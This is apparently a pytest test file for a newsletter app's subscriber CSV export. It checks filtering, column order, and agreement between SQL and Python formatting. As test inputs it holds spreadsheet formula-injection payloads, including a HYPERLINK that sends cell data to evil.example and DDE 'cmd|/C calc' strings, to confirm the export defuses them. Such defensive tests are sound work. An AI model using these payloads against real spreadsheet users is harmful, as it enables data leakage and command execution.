"""CSV export: exactly the matching subscribers, newest first, every column, formulas defused."""
import csv
import io
import re

import pytest
from sqlalchemy import text

from newsletter.extensions import db
from newsletter.models import Subscriber, Subscription, SubscriptionStatus
from newsletter.services.audience import exports, lists, subscribers


def export(**filters) -> list[dict[str, str]]:
    text = "".join(exports.subscribers_csv(subscribers.make_filters(**filters), batch=2))  # several batches
    return list(csv.DictReader(io.StringIO(text)))


def test_a_list_exports_exactly_its_members_with_every_column(app):
    with app.app_context():
        news, other = lists.create("News", "single"), lists.create("Other", "double")
        subscribers.create("a@example.com", name="Ann", attributes={"city": "Oslo", "age": 41},
                           list_ids=[news.id, other.id])
        subscribers.create("b@example.com", name="=HYPERLINK(\"x\")", attributes={"vip": True}, list_ids=[news.id],
                           status="unconfirmed")
        subscribers.create("c@example.com", name="Not on the list", list_ids=[other.id])
        subscribers.create("d@example.com", name="-42", attributes={"city": "+1 555"}, list_ids=[news.id])
        rows = export(list_id=news.id)
    assert [r["email"] for r in rows] == ["d@example.com", "b@example.com", "a@example.com"]  # newest first
    assert list(rows[0]) == ["email", "name", "status", "created_at", "lists", "age", "city", "vip"]
    ann = rows[2]
    assert (ann["name"], ann["status"], ann["age"], ann["city"], ann["vip"]) == ("Ann", "confirmed", "41", "Oslo", "")
    assert ann["lists"] == "News (confirmed); Other (confirmed)"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", ann["created_at"])
    assert rows[1]["name"] == "'=HYPERLINK(\"x\")" and rows[1]["vip"] == "true"  # formula defused; JSON true
    assert rows[0]["name"] == "-42" and rows[0]["city"] == "'+1 555"  # a plain number stays a number


def test_every_cell_a_spreadsheet_opens_is_defused_header_included(app):
    """OWASP's rule: =, +, -, @, tab, CR and the full-width ＝＋－＠ start a formula; plain numbers stay."""
    key = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.app_context():
        subscribers.create("a@example.com", name="\uff1dcmd|' /C calc'!A0",
                           attributes={key: "+cmd|' /C calc'!A0", "@sum": "-5", "\uff20x": "\uff0b1", "n": -5})
        text = "".join(exports.subscribers_csv(subscribers.make_filters()))
        reference = "".join(exports._python_chunks(subscribers.make_filters(), exports.attribute_keys(
            subscribers.make_filters()), batch=10))
    header, row = csv.reader(io.StringIO(text))
    assert header[5:] == ["'" + key, "'@sum", "n", "'\uff20x"]
    assert row[1] == "'\uff1dcmd|' /C calc'!A0"
    assert row[5:] == ["'+cmd|' /C calc'!A0", "-5", "-5", "'\uff0b1"]  # "-5" is a number, not a formula
    assert text.endswith(reference)  # the SQL path (PostgreSQL) spells the rows the same


def test_a_search_exports_its_matches_only(app):
    with app.app_context():
        for i in range(5):
            subscribers.create(f"user{i}@example.com", name="Match" if i % 2 else "Other")
        rows = export(q="match")
    assert [r["email"] for r in rows] == ["user3@example.com", "user1@example.com"]


TRICKY_NAMES = ["Ann", "=HYPERLINK(\"x\")", "-42", "+1.5", "-1.", "-٤٢", "+7\n", "-7\n\n", "@home", "\tTab", "\rCR",
                "a,b", 'say "hi"', "two\nlines", "cr\rhere", "", " spaced ", "Zoë; \"Ö\"", "-", "+", "=1+1", "1.5",
                "'quoted'", "\\.", "end\\", "\uff1d1+1", "\uff0bx", "\uff0d1", "\uff20me", "-05", "+0.50", "5-"]
TRICKY_ATTRIBUTES = [
    {"city": "Oslo", "age": 41, "vip": True}, {"age": -3, "vip": False, "note": None},
    {"nested": {"b": [1, "two", None, True], "a": "x\ty\u0001\"\\/é"}, "empty": {}, "list": []},
    {"email": "shadow@example.com", "name": "=cmd", "big": 123456789012345678901234567890},
    {"city": "+49 30", "phone": "-1 555", "zip": "=01"}, {"multi": "line\nbreak", "comma": "a,b", "q": 'x"y'},
    {"ünïcode": "日本語", "emoji": "🙂", "formula": "@SUM(A1)"}, {"=key": "\uff0d2", "-3": "-3"}, {},
]


def _both(filters) -> tuple[str, str]:
    """(subscribers_csv, the Python reference path) for the same filters."""
    produced = "".join(exports.subscribers_csv(filters, batch=3))
    keys = exports.attribute_keys(filters)
    header = io.StringIO()
    csv.writer(header).writerow(exports._header(keys))
    return produced, header.getvalue() + "".join(exports._python_chunks(filters, keys, batch=3))


def _add_tricky_subscribers():
    names = [lists.create(name, "single") for name in ("Zeta", "alpha", "Äpfel", "News", "News")]
    for i, name in enumerate(TRICKY_NAMES):
        attributes = TRICKY_ATTRIBUTES[i % len(TRICKY_ATTRIBUTES)]
        subscriber = Subscriber(email=f"p{i}@example.com", name=name, attributes=attributes,
                                status="confirmed" if i % 3 else "unconfirmed")
        db.session.add(subscriber)
        db.session.flush()
        for j, mailing_list in enumerate(names):
            if (i + j) % 3:
                status = SubscriptionStatus.UNSUBSCRIBED if (i * j) % 4 == 1 else SubscriptionStatus.CONFIRMED
                db.session.add(Subscription(subscriber_id=subscriber.id, list_id=mailing_list.id, status=status))
    db.session.add(Subscriber(email="array@example.com", name="Array", attributes=["not", "an", "object"],
                              status="confirmed"))
    db.session.commit()
    return names


def postgres_only():
    if db.engine.dialect.name != "postgresql":
        pytest.skip("the SQL-formatted export is PostgreSQL's (run with DATABASE_URL=postgresql://...)")


def test_postgres_formats_exactly_like_the_python_reference(app):
    """On PostgreSQL the rows are formatted in SQL; the bytes must match the Python path."""
    with app.app_context():
        postgres_only()
        names = _add_tricky_subscribers()
        for filters in ({}, {"list_id": names[0].id}, {"q": "p1"}, {"status": "unconfirmed"}):
            assert not exports._has_fractions(subscribers.make_filters(**filters))  # the SQL path runs
            produced, reference = _both(subscribers.make_filters(**filters))
            assert produced == reference, filters
            assert len(reference.splitlines()) > 1


def test_all_attributes_in_one_column_and_fractions_match_too(app, monkeypatch):
    with app.app_context():
        postgres_only()
        _add_tricky_subscribers()
        monkeypatch.setattr(exports, "MAX_ATTRIBUTE_COLUMNS", 2)  # past the limit: one JSON column
        produced, reference = _both(subscribers.make_filters())
        assert produced == reference and reference.splitlines()[0].endswith(",attributes")
        monkeypatch.undo()
        # Python writes 2.50 as 2.5, jsonb keeps 2.50: such exports take the Python path.
        db.session.execute(text("""UPDATE subscribers SET attributes = '{"score": [1, {"x": 2.50}]}' """
                                "WHERE email = 'p3@example.com'"))
        db.session.commit()
        assert exports._has_fractions(subscribers.make_filters())
        produced, reference = _both(subscribers.make_filters())
        assert produced == reference and '""x"": 2.5}' in reference
